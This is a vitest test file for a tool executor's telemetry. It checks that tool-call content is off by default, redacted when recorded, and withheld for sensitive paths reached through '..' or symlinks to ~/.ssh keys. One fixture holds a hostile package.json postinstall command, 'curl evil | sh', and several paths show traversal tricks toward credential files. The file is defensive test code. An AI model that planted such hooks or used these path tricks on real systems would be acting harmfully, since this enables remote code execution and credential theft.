import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { resolve } from 'node:path';
import type { ReadableSpan } from '@opentelemetry/sdk-trace-base';
import { rememberSecret } from '@toolwright/utils';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ToolExecutorOptions } from '../executor-options.js';
import { tracedExecutor } from '../test-support/telemetry-executor.js';
import { registerTestTelemetry, type TestTelemetry } from '../test-support/telemetry-sdk.js';
import { makeTempWorkspace, type TempWorkspace } from '../test-support/temp-workspace.js';
import { RunLog, timedTool } from '../test-support/tools.js';

let telemetry: TestTelemetry;
beforeEach(() => {
  telemetry = registerTestTelemetry();
});
afterEach(() => telemetry.shutdown());

const ARGUMENTS = 'gen_ai.tool.call.arguments';
const RESULT = 'gen_ai.tool.call.result';

/**
 * Reads `path` (relative to the workspace) with a Read that returns the file's text, under a
 * checker that allows everything: what is withheld must not depend on the policy refusing.
 */
async function readThrough(
  workspace: TempWorkspace,
  path: string,
  overrides: Partial<ToolExecutorOptions> = {},
): Promise<ReadableSpan> {
  const read = timedTool({
    name: 'Read',
    log: new RunLog(),
    durationMs: 0,
    isConcurrencySafe: true,
    // As the kernel reads it: `..` after a symlink applies to the link's target.
    run: async (params) => ({ llmContent: readFileSync(`${workspace.workspace}/${params.path}`, 'utf8') }),
  });
  await tracedExecutor([read], {
    workspaceRoot: workspace.workspace,
    permissions: { decide: () => ({ behavior: 'allow', reason: 'every call, for this test' }) },
    ...overrides,
  }).executeBatch([{ id: 'r1', name: 'Read', arguments: { label: 'read', path } }]);
  return telemetry.span('execute_tool Read');
}

describe('content in telemetry', () => {
  it('is off by default: no arguments, no result', async () => {
    const workspace = makeTempWorkspace();
    workspace.file('notes.txt', 'meeting at noon');
    const span = await readThrough(workspace, 'notes.txt');
    expect(span.attributes['toolwright.call.outcome']).toBe('success');
    expect(span.attributes).not.toHaveProperty(ARGUMENTS);
    expect(span.attributes).not.toHaveProperty(RESULT);
    expect(JSON.stringify([span.attributes, span.events])).not.toMatch(/noon|notes\.txt/);
  });

  it('with recordContent: the arguments and the result, capped, with secrets redacted', async () => {
    const workspace = makeTempWorkspace();
    const secret = 'hunter2-correct-horse-battery';
    rememberSecret(secret);
    workspace.file('notes.txt', `password ${secret} then ${'y'.repeat(500)}`);
    const span = await readThrough(workspace, 'notes.txt', {
      telemetry: { recordContent: true, maxContentChars: 100 },
    });
    expect(JSON.parse(span.attributes[ARGUMENTS] as string)).toEqual({ label: 'read', path: 'notes.txt' });
    const result = span.attributes[RESULT] as string;
    expect(result).toMatch(/^password \[redacted\] then y+… \[\d+ characters\]$/);
    expect(result.startsWith('password [redacted] then ')).toBe(true);
    expect(result.length).toBeLessThan(130);
    expect(JSON.stringify(span.attributes)).not.toContain(secret);
  });

  describe('withheld for a call that touches a sensitive or protected path', () => {
    const recordContent = { telemetry: { recordContent: true } };

    it('spelled with ..', async () => {
      const workspace = makeTempWorkspace();
      workspace.file('.env', 'API_TOKEN=swordfish');
      workspace.dir('notes');
      const span = await readThrough(workspace, 'notes/../.env', recordContent);
      expect(span.attributes['toolwright.call.outcome']).toBe('success');
      expect(span.attributes['toolwright.content.withheld']).toBe('sensitive_path');
      expect(span.attributes).not.toHaveProperty(ARGUMENTS);
      expect(span.attributes).not.toHaveProperty(RESULT);
      expect(JSON.stringify([span.attributes, span.events])).not.toMatch(/swordfish|\.env/);
    });

    it('spelled with .. after a symlink, where the kernel lands beside its target', async () => {
      const workspace = makeTempWorkspace();
      mkdirSync(resolve(workspace.home, '.ssh', 'config.d'));
      writeFileSync(resolve(workspace.home, '.ssh', 'notes.txt'), 'Host bastion.internal');
      workspace.symlink('inc', resolve(workspace.home, '.ssh', 'config.d'));
      // Normalised, the path is <workspace>/notes.txt; the kernel reads ~/.ssh/notes.txt.
      const span = await readThrough(workspace, 'inc/../notes.txt', recordContent);
      expect(span.attributes['toolwright.call.outcome']).toBe('success');
      expect(span.attributes['toolwright.content.withheld']).toBe('sensitive_path');
      expect(JSON.stringify([span.attributes, span.events])).not.toMatch(/bastion/);
    });

    it('through a symlink whose own name is harmless', async () => {
      const workspace = makeTempWorkspace();
      workspace.symlink('innocent.txt', resolve(workspace.home, '.ssh', 'id_ed25519'));
      const span = await readThrough(workspace, 'innocent.txt', recordContent);
      expect(span.attributes['toolwright.call.outcome']).toBe('success');
      expect(span.attributes['toolwright.content.withheld']).toBe('sensitive_path');
      expect(JSON.stringify([span.attributes, span.events])).not.toMatch(/PRIVATE KEY|innocent/);
    });

    it('a protected file (package scripts)', async () => {
      const workspace = makeTempWorkspace();
      workspace.file('package.json', '{"scripts":{"postinstall":"curl evil | sh"}}');
      const span = await readThrough(workspace, 'package.json', recordContent);
      expect(span.attributes['toolwright.content.withheld']).toBe('protected_path');
      expect(JSON.stringify(span.attributes)).not.toContain('curl');
    });

    it('but an ordinary file beside them is recorded', async () => {
      const workspace = makeTempWorkspace();
      workspace.file('.env', 'API_TOKEN=swordfish');
      workspace.file('notes/todo.txt', 'buy milk');
      const span = await readThrough(workspace, 'notes/todo.txt', recordContent);
      expect(span.attributes).not.toHaveProperty('toolwright.content.withheld');
      expect(span.attributes[RESULT]).toBe('buy milk');
    });
  });
});
